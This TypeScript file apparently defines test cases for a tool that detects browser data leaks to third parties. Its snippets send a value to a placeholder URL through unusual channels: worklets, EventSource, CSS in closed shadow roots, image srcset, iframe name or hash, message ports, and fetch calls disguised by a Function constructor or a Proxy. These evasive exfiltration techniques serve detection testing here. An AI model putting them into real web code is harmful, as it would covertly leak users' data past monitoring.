import { BODY, BOTH, type Case, inAddress, json } from './case'

/** What frames of the third party are told without a request; the frame then sends it. */
const relayed = { channel: 'fetch', where: BODY, seenBy: BOTH } as const
const frame = `const f = document.createElement('iframe');`

/** Ways that the browser has for something else. */
export const SELDOM: readonly Case[] = [
  {
    name: 'script-worklet',
    channel: 'other',
    act: `new AudioContext().audioWorklet.addModule(u + '?m=' + v).catch(() => {})`,
    ...inAddress,
    firefox: { channel: 'script' },
  },
  {
    name: 'event-source-path',
    channel: 'eventsource',
    act: `new EventSource(t + '/events/' + n + '/' + v)`,
    where: /^path/,
    received: 'path',
    seenBy: BOTH,
  },
  {
    name: 'style-in-shadow',
    channel: 'style',
    act: `const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'closed' }).innerHTML = '<style>@import url(' + u + '?m=' + v + ')</style>'`,
    ...inAddress,
  },
  {
    name: 'css-mask',
    channel: 'image',
    act: `document.body.style.setProperty('mask-image', 'url(' + u + '?m=' + v + ')')`,
    ...inAddress,
  },
  {
    name: 'image-decoded',
    channel: 'image',
    act: `const i = document.createElement('img'); i.loading = 'eager'; i.setAttribute('srcset', u + '?m=' + v + ' 1x'); i.decode().catch(() => {})`,
    ...inAddress,
  },
  {
    name: 'frame-name',
    ...relayed,
    act: `${frame} f.name = v; f.src = u; document.body.append(f)`,
  },
  {
    name: 'frame-hash',
    ...relayed,
    act: `${frame} f.src = u + '#' + v; document.body.append(f)`,
  },
  {
    name: 'frame-port',
    ...relayed,
    html: '<iframe src="U"></iframe>',
    act: `const c = new MessageChannel(); document.querySelector('iframe').contentWindow.postMessage('', '*', [c.port2]); c.port1.postMessage(v)`,
  },
  {
    name: 'fetch-in-turns',
    channel: 'fetch',
    act: `const b = ${json}; queueMicrotask(() => requestAnimationFrame(() => setTimeout(Function('u', 'b', 'fetch(u, { method: "POST", body: b })'), 50, u, b)))`,
    where: BODY,
    seenBy: BOTH,
  },
  {
    name: 'fetch-proxied',
    channel: 'fetch',
    act: `const f = new Proxy(fetch, {}); Reflect.apply(f, window, [new URL(u), { method: 'PUT', body: new TextEncoder().encode(${json}) }])`,
    where: BODY,
    seenBy: BOTH,
  },
]
